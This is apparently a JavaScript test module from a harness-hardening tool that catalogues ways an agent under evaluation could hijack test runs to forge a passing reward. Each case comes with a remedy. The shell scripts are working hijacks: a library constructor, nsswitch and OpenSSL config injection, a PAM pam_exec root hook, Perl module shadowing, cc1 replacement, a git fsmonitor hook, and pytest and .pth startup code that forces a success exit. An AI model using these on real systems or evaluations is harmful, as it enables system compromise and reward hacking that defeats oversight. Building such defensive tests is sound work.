import { attacksWith } from "../attack.js";

const source = "brig: files of the system that programs of the tests obey without being asked to";
const remedy =
  'set `environment_mode = "separate"`, so that the tests run with the programs, libraries and settings of the image';

/** Makes the library `$STATE/NAME.so`, which runs a program in every process that loads it, once. */
const LIBRARY = `
need gcc
cat > "$STATE/library.c" << END
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void) {
  if (getenv("ATTACK_LOADED") || access("/tests", F_OK) || !access("$STATE/forge-runs", F_OK)) return;
  setenv("ATTACK_LOADED", "1", 1);
  if (system("$FORGE")) return;
  unsetenv("ATTACK_LOADED");
}
int OSSL_provider_init(void *core, void *in, void **out, void **context) { return 0; }
END
library() { gcc -shared -fPIC -o "$1" "$STATE/library.c" 2> /dev/null || not_possible "$1 cannot be made"; }`;

/** Code that programs load or run for reasons of their own: settings of libraries, and programs behind programs. */
export const loadedCode = attacksWith({ source, remedy }, [
  {
    name: "name-service",
    tries: "Has everything that looks up a user load a library of the agent, by /etc/nsswitch.conf.",
    claims: ["/etc/nsswitch.conf"],
    script: String.raw`${LIBRARY}
directory=$(dirname "$(ldconfig -p | sed -n 's/.*=> \(.*\/libc\.so\.6\)$/\1/p' | head -n 1)")
library "$directory/libnss_attack.so.2"
printf 'passwd: attack files\ngroup: attack files\n' > /etc/nsswitch.conf || not_possible "/etc/nsswitch.conf cannot be written"`,
  },
  {
    name: "openssl-settings",
    tries: "Has everything that uses OpenSSL load a library of the agent, by openssl.cnf.",
    claims: ["openssl.cnf"],
    script: String.raw`${LIBRARY}
need openssl
settings=$(openssl version -d | sed 's/.*"\(.*\)"/\1/')/openssl.cnf
library "$STATE/provider.so"
cat > "$settings" << END || not_possible "$settings cannot be written"
openssl_conf = start
[start]
providers = providers
[providers]
attack = attack
default = default
[default]
activate = 1
[attack]
module = $STATE/provider.so
activate = 1
END`,
  },
  {
    name: "su-settings",
    tries: "Has su run a program of the agent as root before it becomes another user, by PAM.",
    remedy: `${remedy}; give up rights by \`setpriv --no-new-privs\`, which obeys no files`,
    claims: ["/etc/pam.d"],
    script: `
need su
[ -w /etc/pam.d/su ] || not_possible "/etc/pam.d/su cannot be written"
for service in su su-l runuser runuser-l; do
  [ -e "/etc/pam.d/$service" ] && sed -i "1i session optional pam_exec.so $FORGE" "/etc/pam.d/$service"
done
true`,
  },
  {
    name: "perl-modules",
    tries: "Puts a module that every Perl program loads into the directory where Perl looks first.",
    claims: ["/etc/perl"],
    script: String.raw`
need perl
first=$(perl -e 'print $INC[0]')
mkdir -p "$first" 2> /dev/null
printf 'package strict;\nsystem("%s");\n1;\n' "$FORGE" > "$first/strict.pm" || not_possible "$first cannot be written"`,
  },
  {
    name: "compiler-programs",
    tries: "Replaces the programs that gcc runs, which are in no directory of PATH.",
    claims: ["cc1"],
    script: String.raw`
need gcc
real=$(gcc -print-prog-name=cc1)
[ -w "$real" ] || not_possible "cc1 cannot be replaced"
cp "$real" "$STATE/cc1"
printf '#!/bin/sh\n%s\nexec %s "$@"\n' "$FORGE" "$STATE/cc1" > "$STATE/wrapper"
chmod 755 "$STATE/wrapper" && mv -f "$STATE/wrapper" "$real"`,
  },
  {
    name: "git-elsewhere",
    tries: "Moves the repository to where nobody looks for settings, and leaves a file that says where.",
    source: "git's own documentation of gitfiles",
    remedy: "call git with `-c core.fsmonitor= -c core.hooksPath=/dev/null`",
    claims: ["git settings"],
    script: `
need git
[ -d .git ] || not_possible "the working directory is no repository"
mv .git "$STATE/repository" && echo "gitdir: $STATE/repository" > .git
git config core.worktree "$PWD"
git config core.fsmonitor "$FORGE"`,
  },
  {
    name: "pytest-metadata",
    tries:
      "Makes a module in the working directory a plugin of pytest, by the metadata of a package beside it.",
    source: "Python's own documentation of importlib.metadata",
    remedy: `${remedy}; or run \`pytest\` instead of \`python -m pytest\`, with PYTEST_DISABLE_PLUGIN_AUTOLOAD=1`,
    claims: ["pytest plugin"],
    script: String.raw`
need pytest
mkdir -p attack_metadata-1.0.dist-info || not_possible "the working directory cannot be written"
printf 'Metadata-Version: 2.1\nName: attack-metadata\nVersion: 1.0\n' > attack_metadata-1.0.dist-info/METADATA
printf '[pytest11]\nattack_metadata = attack_metadata\n' > attack_metadata-1.0.dist-info/entry_points.txt
printf 'import os\nos.system("%s")\ndef pytest_sessionfinish(session):\n    session.exitstatus = 0\n' "$FORGE" > attack_metadata.py`,
  },
  {
    name: "python-pth-name",
    tries: "Has every Python write a reward at its start, by a *.pth file whose name is no text.",
    source: "brig: what cannot be named is not removed",
    claims: [],
    script: String.raw`
need python3
site=$(python3 -c 'import site; print(site.getsitepackages()[0])')
mkdir -p "$site" 2> /dev/null
[ -w "$site" ] || not_possible "$site cannot be written"
printf 'import os; os.system("%s")\n' "$FORGE" > "$site/$(printf 'attack\377').pth"`,
  },
]);
